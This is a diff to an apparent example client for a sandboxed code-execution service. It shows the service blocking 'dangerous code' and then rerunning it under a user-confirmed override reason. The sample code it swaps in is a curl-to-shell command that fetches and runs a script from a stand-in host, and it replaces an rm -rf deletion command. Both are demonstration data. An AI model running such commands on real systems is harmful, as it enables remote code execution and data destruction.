@@ -35,7 +35,8 @@ def main(server: str, pki: pathlib.Path) -> int:
         print("audit receipt:", json.dumps(result.audit.to_dict()))
 
         # Dangerous code: the assessment blocks it; ask the user, then override.
-        code = "import os\nos.system('rm -rf /tmp/mai-example-scratch --no-preserve-root')\n"
+        # (In the sandbox it fails harmlessly: no network, read-only root.)
+        code = "import os\nos.system('curl -s http://example.invalid/setup.sh | sh')\n"
         print("assessment only:", client.assess(code).level)
         try:
             client.run(code)
@@ -43,7 +44,7 @@ def main(server: str, pki: pathlib.Path) -> int:
             print("blocked:", e.explanation)
             for f in e.assessment.findings:
                 print("  line %d: %s (%s)" % (f.line, f.message, f.rule_id))
-            result = client.run(code, override_reason="the user confirmed: scratch directory only")
+            result = client.run(code, override_reason="the user confirmed the setup script")
             print("overridden, ran with trust", result.execution.trust, "-", result.policy_notes)
         except Rejected as e:
             print("the service is busy (%s); try again later" % e.reason)
